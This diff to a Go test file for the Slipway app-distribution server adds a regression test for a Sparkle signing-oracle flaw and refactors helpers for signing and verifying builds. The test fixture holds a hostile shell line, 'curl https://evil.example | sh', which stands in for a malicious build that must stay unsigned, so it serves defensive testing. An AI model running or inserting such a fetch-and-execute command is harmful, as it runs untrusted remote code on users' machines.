@@ -5,6 +5,7 @@ import (
 	"context"
 	"crypto/ed25519"
 	"encoding/base64"
+	"fmt"
 	"log/slog"
 	"strings"
 	"testing"
@@ -47,18 +48,133 @@ func (f feedEnv) appcastSignatureOf(slug, build string) ([]byte, []byte) {
 	return nil, nil
 }
 
-// Issue 23: with SLIPWAY_SPARKLE_KEY_FILE, Slipway signs the macOS packages uploaded without a
-// Sparkle signature, by the verifier's reads of the stored object (a proxied upload and a
-// resumable session's alike); the appcast's edSignature verifies over the enclosure's bytes with
-// the operator's public key (crypto/ed25519) and is exactly crypto/ed25519's signature. A
-// signature the CI sent is kept, not replaced. The key shows in no log.
+// signingChannel makes a macOS channel (app "Desk") with Slipway's Sparkle signing switched on by
+// the admin token, and returns its key.
+func (f feedEnv) signingChannel() string {
+	f.t.Helper()
+	app := f.want(f.call("POST", "/api/apps", f.e.AdminToken, `{"name":"Desk"}`), 201, "create app")
+	scheme := f.want(f.call("POST", fmt.Sprintf("/api/apps/%d/schemes", id(app)), f.e.AdminToken, `{"name":"Release"}`), 201, "create scheme")
+	ch := f.want(f.call("POST", fmt.Sprintf("/api/schemes/%d/channels", id(scheme)), f.e.AdminToken,
+		`{"name":"Mac","device_type":"macos","sparkle_signing":true}`), 201, "create channel")
+	if ch["sparkle_signing"] != true {
+		f.t.Fatalf("the channel: %v", ch)
+	}
+	return ch["slug"].(string)
+}
+
+// uploadMac uploads an unsigned macOS zip to the channel with token and waits until its checksums
+// are verified.
+func (f feedEnv) uploadMac(token, slug string, zip []byte, fields ...apptest.Part) map[string]any {
+	f.t.Helper()
+	parts := append([]apptest.Part{apptest.Field("channel_key", slug)}, fields...)
+	parts = append(parts, apptest.File("Desk.zip", zip))
+	rel := f.want(f.e.Upload(f.t, "/api/apps/upload", token, parts...), 201, "upload")
+	return f.waitRelease(id(rel), func(r map[string]any) bool { return r["checksum_state"] == "verified" })
+}
+
+// drain runs a verifier holding key until it finds nothing left to verify or sign (the replica's
+// own verifier has no key here, so only this one signs).
+func (f feedEnv) drain(key *edsign.Key) {
+	f.t.Helper()
+	svc := f.e.Service
+	v := uploads.NewVerifier(f.e.DB, f.e.Storage, distribution.Effects{Cache: svc.Reads, Webhooks: svc.Sender, Objects: svc.Objects, Events: svc.Events},
+		time.Minute, slog.New(slog.DiscardHandler))
+	v.SparkleKey, v.Audit = key, svc.Audit
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	for n := 0; ; n++ {
+		did, err := v.VerifyNext(ctx)
+		if err != nil || n > 20 {
+			f.t.Fatalf("verify %d: %v", n, err)
+		}
+		if !did {
+			return
+		}
+	}
+}
+
+// signatureOf is a release's ed_signature as the API reads it now.
+func (f feedEnv) signatureOf(relID int64) string {
+	f.t.Helper()
+	rel := f.want(f.call("GET", fmt.Sprintf("/api/releases/%d", relID), f.e.AdminToken, ""), 200, "get release")
+	s, _ := rel["ed_signature"].(string)
+	return s
+}
+
+// The Sparkle signing oracle, replayed: with the operator's key configured, an upload token sent a
+// shell script in a zip without a signature and got back a valid ed_signature, in any channel,
+// even at rollout 0, and at rollout 100 it went straight into the appcast. Now Slipway signs only
+// in a channel where an admin switched signing on, only what an admin token (or the app's people
+// in the console) uploaded there, and only once rolled out; each signature is an audit row.
+func TestSparkleSigningOracle(t *testing.T) {
+	priv, key := sparkleKey(t)
+	f := feedEnv{newMgmt(t, apptest.Options{}), nil}
+	script := appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk", Version: "6.6.6", Build: "666", MinOS: "12.0",
+		Extra: []appletest.Entry{{Name: "Desk.app/Contents/MacOS/Desk", Data: []byte("#!/bin/sh\ncurl https://evil.example | sh\n")}}})
+
+	// An upload token's build in a channel the upload made (signing off), at rollout 100.
+	auto := f.want(f.e.Upload(t, "/api/apps/upload", f.e.UploadToken, apptest.File("Desk.zip", script)), 201, "upload")
+	f.waitRelease(id(auto), func(r map[string]any) bool { return r["checksum_state"] == "verified" })
+	// An upload token's build in a channel with signing on: the token reaches every app.
+	slug := f.signingChannel()
+	byToken := f.uploadMac(f.e.UploadToken, slug, script)
+	// The admin token's build at rollout 0: nobody is offered it, so nothing trusts it yet.
+	held := f.uploadMac(f.e.AdminToken, slug, appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk",
+		Version: "1.0", Build: "1", MinOS: "12.0"}), apptest.Field("rollout", "0"))
+	f.drain(key)
+	for name, rel := range map[string]map[string]any{"the upload token's, signing off": auto, "the upload token's, signing on": byToken,
+		"the admin's at rollout 0": held} {
+		if sig := f.signatureOf(id(rel)); sig != "" {
+			t.Errorf("%s build was signed: %s", name, sig)
+		}
+	}
+	for _, it := range f.appcast("/channels/" + slug + "/appcast.xml").Items {
+		if it.Enclosure.Signature != "" {
+			t.Errorf("the appcast carries a signature Slipway made for build %s", it.Version)
+		}
+	}
+
+	// Neither the upload token nor a rollout edit by it switches signing on; the admin token can.
+	auto = f.want(f.call("GET", fmt.Sprintf("/api/releases/%d", id(auto)), f.e.AdminToken, ""), 200, "release")
+	autoChannel := int64(auto["channel"].(map[string]any)["id"].(float64))
+	f.want(f.call("PATCH", fmt.Sprintf("/api/channels/%d", autoChannel), f.e.UploadToken, `{"sparkle_signing":true}`), 403, "upload token switches signing on")
+	if sig := f.signatureOf(id(auto)); sig != "" {
+		t.Fatalf("signed after a refused switch: %s", sig)
+	}
+
+	// Rolled out, the admin's build is signed, verifiably, with one audit row naming the key.
+	f.want(f.call("PATCH", fmt.Sprintf("/api/releases/%d", id(held)), f.e.AdminToken, `{"rollout":100}`), 200, "roll out")
+	f.drain(key)
+	want := ed25519.Sign(priv, appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk", Version: "1.0", Build: "1", MinOS: "12.0"}))
+	if got := f.signatureOf(id(held)); got != base64.StdEncoding.EncodeToString(want) {
+		t.Fatalf("the rolled-out build: signature %q", got)
+	}
+	if sig := f.signatureOf(id(byToken)); sig != "" {
+		t.Fatalf("the upload token's build was signed with the admin's: %s", sig)
+	}
+	rows, err := f.e.DB.AuditEntries(context.Background(), distribution.AuditFilter{Action: "release.sign", Limit: 10})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != 1 || rows[0].Target.ID != id(held) || rows[0].Detail["public_key"] != base64.StdEncoding.EncodeToString(key.Public()) {
+		t.Fatalf("the audit rows of signatures: %+v", rows)
+	}
+}
+
+// With SLIPWAY_SPARKLE_KEY_FILE and a channel with signing on, Slipway signs the macOS packages the
+// admin token uploaded there without a Sparkle signature, by the replica's verifier's reads of the
+// stored object (a proxied upload and a resumable session's alike); the appcast's edSignature
+// verifies over the enclosure's bytes with the operator's public key (crypto/ed25519) and is
+// exactly crypto/ed25519's signature. A signature the CI sent is kept, not replaced. The key shows
+// in no log.
 func TestSlipwaySignsSparkleEnclosures(t *testing.T) {
 	priv, key := sparkleKey(t)
 	_, ciKey, _ := ed25519.GenerateKey(nil)
 	f := feedEnv{newMgmt(t, apptest.Options{Configure: func(c *config.Config) { c.SparkleKey = key }}), ciKey}
 
-	slug, unsigned := f.macBuildUnsigned()
+	slug := f.signingChannel()
 	zip := appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk", Version: "1.0.0", Build: "1", MinOS: "12.0"})
+	unsigned := f.uploadMac(f.e.AdminToken, slug, zip)
 	signed := f.waitRelease(id(unsigned), func(r map[string]any) bool { return r["ed_signature"] != "" })
 	if want := base64.StdEncoding.EncodeToString(ed25519.Sign(priv, zip)); signed["ed_signature"] != want || signed["checksum_state"] != "verified" {
 		t.Fatalf("Slipway's signature %v (%v), want crypto/ed25519's %s", signed["ed_signature"], signed["checksum_state"], want)
@@ -82,14 +198,17 @@ func TestSlipwaySignsSparkleEnclosures(t *testing.T) {
 	s := sessions{f.mgmt}
 	big := appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk", Version: "1.2", Build: "3", MinOS: "12.0",
 		Extra: []appletest.Entry{{Name: "Desk.app/Contents/Resources/filler", Data: bytes.Repeat([]byte("slipway"), 1<<20), Store: true}}})
-	sess := s.start(startBody("Desk.zip", len(big), sha(big), map[string]any{"channel_key": slug}), 201)
+	var sess session
+	started := s.call("POST", "/api/uploads", s.e.AdminToken, startBody("Desk.zip", len(big), sha(big), map[string]any{"channel_key": slug}))
+	s.want(started, 201, "start")
+	started.JSON(t, &sess)
 	for i, p := range sess.Parts {
 		off := int64(i) * sess.PartSize
 		if st := s.put(p.URL, big[off:off+p.Size]); st != 200 {
 			t.Fatalf("part %d: %d", p.Number, st)
 		}
 	}
-	rel := s.want(s.call("POST", "/api/uploads/"+sess.ID+"/complete", s.e.UploadToken, ""), 201, "complete")
+	rel := s.want(s.call("POST", "/api/uploads/"+sess.ID+"/complete", s.e.AdminToken, ""), 201, "complete")
 	rel = f.waitRelease(id(rel), func(r map[string]any) bool { return r["ed_signature"] != "" })
 	if rel["checksum_state"] != "verified" || rel["ed_signature"] != base64.StdEncoding.EncodeToString(ed25519.Sign(priv, big)) {
 		t.Fatalf("the session's release: %v, signature %v", rel["checksum_state"], rel["ed_signature"])
@@ -101,45 +220,31 @@ func TestSlipwaySignsSparkleEnclosures(t *testing.T) {
 	}
 }
 
-// Issue 23: builds verified before the operator configured a key are signed once it is: the
-// verifier also takes verified macOS releases without a signature (and only those).
+// Builds marked for signing before the operator configured a key are signed once it is: the
+// verifier also takes verified releases still to be signed (and only those).
 func TestSparkleKeySignsEarlierBuilds(t *testing.T) {
 	priv, key := sparkleKey(t)
 	_, ciKey, _ := ed25519.GenerateKey(nil)
 	f := feedEnv{newMgmt(t, apptest.Options{}), ciKey}
-	slug, unsigned := f.macBuildUnsigned()
+	slug := f.signingChannel()
 	zip := appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk", Version: "1.0.0", Build: "1", MinOS: "12.0"})
-	if rel := f.waitRelease(id(unsigned), func(r map[string]any) bool { return r["checksum_state"] == "verified" }); rel["ed_signature"] != "" {
-		t.Fatalf("signed without a key: %v", rel["ed_signature"])
+	unsigned := f.uploadMac(f.e.AdminToken, slug, zip)
+	if unsigned["ed_signature"] != "" {
+		t.Fatalf("signed without a key: %v", unsigned["ed_signature"])
 	}
 	ci, _ := f.macBuild(slug, "1.1", "2")
 	ipa := f.e.UploadApp(t, "P.ipa", appletest.BuildIPA(appletest.IPAOptions{AppName: "Phone", BundleID: "com.example.phone", Version: "1.0", Build: "1"}))
 
 	// The replica restarts with the key: a verifier with it works through what is there.
-	svc := f.e.Service
-	v := uploads.NewVerifier(f.e.DB, f.e.Storage, distribution.Effects{Cache: svc.Reads, Webhooks: svc.Sender, Objects: svc.Objects, Events: svc.Events},
-		time.Minute, slog.New(slog.DiscardHandler))
-	v.SparkleKey = key
-	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
-	defer cancel()
-	for n := 0; ; n++ {
-		did, err := v.VerifyNext(ctx)
-		if err != nil || n > 5 {
-			t.Fatalf("verify %d: %v", n, err)
-		}
-		if !did {
-			break
-		}
+	f.drain(key)
+	if got := f.signatureOf(id(unsigned)); got != base64.StdEncoding.EncodeToString(ed25519.Sign(priv, zip)) {
+		t.Fatalf("the earlier build: signature %v", got)
 	}
-	rel := f.waitRelease(id(unsigned), func(map[string]any) bool { return true })
-	if rel["ed_signature"] != base64.StdEncoding.EncodeToString(ed25519.Sign(priv, zip)) {
-		t.Fatalf("the earlier build: signature %v", rel["ed_signature"])
+	if again := f.signatureOf(id(ci)); again != ci["ed_signature"] {
+		t.Fatalf("the CI-signed build changed: %v", again)
 	}
-	if again := f.waitRelease(id(ci), func(map[string]any) bool { return true }); again["ed_signature"] != ci["ed_signature"] {
-		t.Fatalf("the CI-signed build changed: %v", again["ed_signature"])
-	}
-	if again := f.waitRelease(id(ipa), func(map[string]any) bool { return true }); again["ed_signature"] != nil && again["ed_signature"] != "" {
-		t.Fatalf("an iOS build was signed: %v", again["ed_signature"])
+	if again := f.signatureOf(id(ipa)); again != "" {
+		t.Fatalf("an iOS build was signed: %v", again)
 	}
 	body, sig := f.appcastSignatureOf(slug, "1")
 	if !ed25519.Verify(priv.Public().(ed25519.PublicKey), body, sig) {
